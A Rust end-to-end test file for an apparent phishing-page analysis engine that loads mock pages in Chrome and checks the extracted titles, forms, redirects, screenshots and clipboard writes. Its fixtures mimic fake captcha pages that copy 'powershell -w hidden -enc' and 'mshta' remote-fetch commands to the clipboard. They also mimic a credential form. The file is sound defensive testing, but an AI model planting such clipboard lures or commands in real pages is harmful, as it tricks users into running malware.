// Copyright (c) 2026 Bountyy Oy. All rights reserved.
// This software is proprietary and confidential.

//! End-to-end tests against a local Chrome.
//!
//! Run with `cargo test -- --ignored` on a machine with Chrome installed.

use std::sync::Arc;
use std::time::Duration;

use wiremock::matchers::{method, path};
use wiremock::{Mock, MockServer, ResponseTemplate};

use pisces::detection::Rule;
use pisces::{Engine, EngineConfig, FixedFormData, Payload, RuleSet, Task, TaskResult};

const LOGIN_PAGE: &str = r#"<!DOCTYPE html>
<html>
<head>
  <title>Pisces Test Login</title>
  <meta name="description" content="Sign in to continue">
  <link rel="icon" href="/favicon.ico">
</head>
<body>
  <a class="nav" href="/help">Help</a>
  <form id="search" action="/search" method="get">
    <input type="text" name="q" placeholder="Search">
  </form>
  <form id="login" action="/collect" method="post">
    <label for="user">Email address</label>
    <input id="user" type="email" name="user">
    <input id="pass" type="password" name="pass" placeholder="Password">
    <input type="hidden" name="token" value="abc">
  </form>
</body>
</html>"#;

const CLIPBOARD_PAGE: &str = r#"<!DOCTYPE html>
<html>
<head><title>Verify you are human</title></head>
<body>
  <div id="captcha" onclick="navigator.clipboard.writeText('powershell -w hidden -enc AAAA')">
    I am not a robot
  </div>
  <a href="/elsewhere">Leave</a>
</body>
</html>"#;

const SVG_CLIPBOARD_PAGE: &str = r#"<!DOCTYPE html>
<html>
<head><title>Press to verify</title></head>
<body>
  <p>Click the box</p>
  <svg id="check" width="60" height="60" style="background:#ccc"
       onclick="navigator.clipboard.writeText('mshta https://verify.test/c')"></svg>
</body>
</html>"#;

const TITLE_RULE: &str = r#"
title: Pisces test page title
id: pisces-test-title-001
level: low
detection:
  selection:
    result.head.title|contains: 'Pisces Test'
  condition: selection
"#;

fn html(body: &str) -> ResponseTemplate {
    ResponseTemplate::new(200).set_body_raw(body.as_bytes().to_vec(), "text/html; charset=utf-8")
}

async fn fixture_server() -> MockServer {
    let server = MockServer::start().await;

    Mock::given(method("GET"))
        .and(path("/login"))
        .respond_with(html(LOGIN_PAGE))
        .mount(&server)
        .await;
    Mock::given(method("POST"))
        .and(path("/collect"))
        .respond_with(html("<html><head><title>Thanks</title></head><body>ok</body></html>"))
        .mount(&server)
        .await;
    Mock::given(method("GET"))
        .and(path("/start"))
        .respond_with(ResponseTemplate::new(302).insert_header("Location", "/final"))
        .mount(&server)
        .await;
    Mock::given(method("GET"))
        .and(path("/final"))
        .respond_with(html("<html><head><title>Final</title></head><body>done</body></html>"))
        .mount(&server)
        .await;
    Mock::given(method("GET"))
        .and(path("/clipboard"))
        .respond_with(html(CLIPBOARD_PAGE))
        .mount(&server)
        .await;
    Mock::given(method("GET"))
        .and(path("/svg-clipboard"))
        .respond_with(html(SVG_CLIPBOARD_PAGE))
        .mount(&server)
        .await;
    Mock::given(method("GET"))
        .and(path("/favicon.ico"))
        .respond_with(ResponseTemplate::new(200).set_body_bytes(vec![0u8, 0, 1, 0]))
        .mount(&server)
        .await;

    server
}

async fn run_one(task: Task) -> TaskResult {
    let config = EngineConfig::new().form_data(Arc::new(FixedFormData::default()));
    let engine = Engine::new(1, config);
    engine.start().await.expect("chrome should start");

    let (task, reply) = task.with_reply();
    engine.add(task).await.unwrap();
    let result = tokio::time::timeout(Duration::from_secs(60), reply)
        .await
        .expect("task timed out")
        .expect("reply dropped");

    engine.shutdown().await;
    result
}

#[tokio::test]
#[ignore = "requires Chrome"]
async fn test_analyze_login_page() {
    let server = fixture_server().await;
    let url = format!("{}/login", server.uri());

    let result = run_one(
        Task::new("analyze", &url)
            .param("wait", 500)
            .param("clipboard", false)
            .param("favicon-hash", true),
    )
    .await;
    assert!(result.is_ok(), "unexpected error: {:?}", result.error);

    let Some(Payload::Analyze(analysis)) = &result.result else {
        panic!("expected analyze payload");
    };
    assert_eq!(analysis.head.title, "Pisces Test Login");
    assert_eq!(analysis.initial_title, "Pisces Test Login");
    assert_eq!(analysis.head.description, "Sign in to continue");
    assert_eq!(analysis.head.favicon_url, format!("{}/favicon.ico", server.uri()));
    assert_eq!(analysis.head.favicon_hash, Some(-216455174));
    assert!(analysis.links.iter().any(|l| l.href.ends_with("/help")));
    assert!(analysis.visible_text.contains("Email address"));

    assert_eq!(analysis.forms.len(), 2);
    let login = analysis.forms.iter().find(|f| f.id == "login").unwrap();
    assert_eq!(login.inputs.len(), 3);
    assert_eq!(login.inputs[0].label, "Email address");

    // The login form outranks the search form and is submitted first
    assert_eq!(analysis.form_submissions.len(), 1);
    assert!(analysis.form_submissions[0].visit.location.ends_with("/collect"));

    let rules = RuleSet::new(vec![Rule::from_yaml(TITLE_RULE).unwrap()]);
    let matches = rules.evaluate(&result).unwrap();
    assert!(matches[0].matched);
}

#[tokio::test]
#[ignore = "requires Chrome"]
async fn test_collect_follows_redirect() {
    let server = fixture_server().await;
    let url = format!("{}/start", server.uri());

    let result = run_one(Task::new("collect", &url)).await;
    assert!(result.is_ok(), "unexpected error: {:?}", result.error);

    let Some(Payload::Collect(collect)) = &result.result else {
        panic!("expected collect payload");
    };
    assert_eq!(collect.visit.requested_url, url);
    assert!(collect.visit.location.ends_with("/final"));
    assert_eq!(collect.visit.redirect_locations.len(), 1);
    assert_eq!(collect.visit.redirect_locations[0].status_code, 302);
    assert!(collect.visit.body.contains("done"));
    assert!(collect.assets_count >= 1);
}

#[tokio::test]
#[ignore = "requires Chrome"]
async fn test_clipboard_written_on_click() {
    let server = fixture_server().await;
    let url = format!("{}/clipboard", server.uri());

    let result = run_one(Task::new("analyze", &url).param("wait", 1000).param("forms", false)).await;
    assert!(result.is_ok(), "unexpected error: {:?}", result.error);

    let Some(Payload::Analyze(analysis)) = &result.result else {
        panic!("expected analyze payload");
    };
    assert_eq!(
        analysis.clipboard_texts,
        vec!["powershell -w hidden -enc AAAA".to_string()]
    );
    // Navigation stays locked while clicking
    assert!(analysis.visit.location.ends_with("/clipboard"));
}

#[tokio::test]
#[ignore = "requires Chrome"]
async fn test_clipboard_click_on_inline_svg() {
    let server = fixture_server().await;
    let url = format!("{}/svg-clipboard", server.uri());

    let result = run_one(Task::new("analyze", &url).param("wait", 1000).param("forms", false)).await;
    assert!(result.is_ok(), "unexpected error: {:?}", result.error);

    let Some(Payload::Analyze(analysis)) = &result.result else {
        panic!("expected analyze payload");
    };
    assert_eq!(
        analysis.clipboard_texts,
        vec!["mshta https://verify.test/c".to_string()]
    );
}

#[tokio::test]
#[ignore = "requires Chrome"]
async fn test_screenshot_is_png() {
    let server = fixture_server().await;
    let url = format!("{}/final", server.uri());

    let result = run_one(Task::new("screenshot", &url).device("mobile", "small")).await;
    assert!(result.is_ok(), "unexpected error: {:?}", result.error);

    let Some(Payload::Screenshot(shot)) = &result.result else {
        panic!("expected screenshot payload");
    };
    assert!(shot.buffer.starts_with(b"\x89PNG\r\n\x1a\n"));
}

#[tokio::test]
#[ignore = "requires Chrome"]
async fn test_shared_results_stream() {
    let server = fixture_server().await;

    let engine = Engine::new(2, EngineConfig::new());
    let mut results = engine.results().unwrap();
    engine.start().await.expect("chrome should start");

    engine
        .add(Task::new("collect", &format!("{}/final", server.uri())))
        .await
        .unwrap();
    engine
        .add(Task::new("bogus", &format!("{}/final", server.uri())))
        .await
        .unwrap();
    engine.shutdown().await;

    let mut received = Vec::new();
    while let Some(result) = results.recv().await {
        received.push(result);
    }
    assert_eq!(received.len(), 2);
    assert_eq!(received.iter().filter(|r| r.is_ok()).count(), 1);
    assert!(received
        .iter()
        .any(|r| r.error.as_ref().map(|e| e.to_string()) == Some("unknown action: bogus".to_string())));
}
